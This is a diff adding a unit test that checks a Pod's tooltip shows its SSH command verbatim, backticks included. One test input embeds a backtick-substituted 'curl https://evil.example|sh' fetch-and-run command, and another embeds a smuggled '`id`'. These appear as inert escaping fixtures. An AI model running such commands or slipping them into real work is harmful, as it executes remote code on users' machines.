@@ -29,6 +29,16 @@ describe("a Pod's SSH command from the server", () => {
     expect(describePod(plain).contextValue).toMatch(/;ssh$/);
   });
 
+  it('the tooltip shows the SSH command exactly as Copy SSH Command copies it, backticks included', () => {
+    for (const command of ['ssh root@203.0.113.5 `curl https://evil.example|sh`', '`id` ssh x', 'ssh x ``a`` b`']) {
+      const pod = parsePod({ ...POD, ssh: { command } });
+      const html = markdown.render(describePod(pod).tooltip);
+      const shown = /SSH: <code>([^<]*)<\/code>/.exec(html)?.[1];
+      const decoded = shown?.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&');
+      expect(decoded, command).toBe(command);
+    }
+  });
+
   it('of another type than text leaves the Pod listed without one, instead of breaking the Pods view', () => {
     for (const ssh of [{ command: 5 }, { command: ['ssh', 'x'] }, { command: { toString: 'x' } }, 'ssh x', 7]) {
       const pod = parsePod({ ...POD, ssh });
